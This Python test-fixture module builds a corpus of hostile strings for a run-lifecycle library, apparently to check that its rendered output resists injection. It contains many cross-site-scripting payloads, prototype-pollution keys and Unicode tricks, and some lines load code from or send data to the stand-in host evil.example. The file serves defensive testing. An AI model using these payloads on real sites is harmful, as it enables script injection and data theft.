"""
Texts that try to be more than texts: as ids, statuses, names of files and messages.
"""

from itertools import pairwise

from runstate import Finding, Lifecycle, Observation, Transition, histories

__all__ = ["CORPUS", "hostile_lifecycle", "hostile_survey"]

_ACTS = (
    "alert(1)",
    "document.title='owned'",
    "fetch('https://evil.example/')",
    "import('//evil.example')",
)

_SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</SCRIPT ><script src=//evil.example/x.js></script>{}",
    "--></script><script>{}//",
    "<!--<script>{}",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><img src=x onerror={}>",
    "</option></select><img src=x onerror={}>",
    "</td></tr></table><body onload={}>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus='",
    " onfocus={} autofocus tabindex=1 ",
    "`${{{}}}`",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "javascript:{}",
    "java\tscript:{}",
    "JaVaScRiPt&colon;{}",
    "data:text/html,<script>{}</script>",
    "<a href='javascript:{}'>x</a>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<base href='https://evil.example/'>{}",
    "<meta http-equiv=refresh content='0;url=https://evil.example/?{}'>",
    "<link rel=stylesheet href=https://evil.example/{}>",
    "<form action=https://evil.example/><button autofocus>{}",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<details open ontoggle={}>",
    "<template><script>{}</script></template>",
    "%%{{init: {{'securityLevel': 'loose'}}}}%%{}",
    "click a href \"javascript:{}\"",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "\u2028{}\u2029",
    "\u202e{}\u202c",
    "\u2066{}\u2069\u200b\ufeff",
    "\x00<script>{}\x00</script>",
    "\x1b]8;;https://evil.example\x07{}\x1b]8;;\x07",
    "\ud800{}\udfff",
)  # fmt: skip

_ODD = (
    "",
    " ",
    "\n",
    "\r\n<tr>",
    "\t",
    "\x7f",
    "\x00",
    "\ud83d",
    "\udc00\ud800",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "-1",
    "1e999",
    "#r0",
    "r0",
    "[data-key=a0]",
    "x" * 100_000,
    "<" * 50_000,
    "&" * 50_000,
    "\u202e" * 10_000,
    "🏃" * 3_000,
    "e\u0301\u0302\u0303" * 1_000,
    "漢字" * 500,
    "https://evil.example/",
    "url(https://evil.example/)",
    "expression(alert(1))",
    "@import 'https://evil.example/'",
    "*/}body{background:url(https://evil.example/)}/*",
)

CORPUS = tuple(dict.fromkeys([*(shape.format(act) for shape in _SHAPES for act in _ACTS), *_ODD]))


def hostile_lifecycle():
    """
    Return a lifecycle whose every name is hostile.
    """
    names = CORPUS[:8]
    rows = [
        Transition(CORPUS[20 + n], source, target, "inferred", CORPUS[40 + n])
        for n, (source, target) in enumerate(pairwise(names))
    ]

    return Lifecycle(CORPUS[1], rows, initial=names[0], terminal={names[-1]: "failure"})


def hostile_survey(lifecycle, observed="complete"):
    """
    Return what was seen of runs with hostile ids, in hostile statuses, out of hostile files.
    """
    observations = [
        Observation(status, run_id, 1e9 + at, file=CORPUS[-n - 1], line=n)
        for n, run_id in enumerate(CORPUS)
        for at, status in enumerate((str(lifecycle.initial), CORPUS[n - 7], CORPUS[n - 50]))
    ]
    findings = [
        Finding("RS901", "error", text, CORPUS[-n], hint=CORPUS[n - 3], file=text)
        for n, text in enumerate(CORPUS)
    ]

    return histories.survey([*observations, *findings], lifecycle, observed=observed, samples=400)
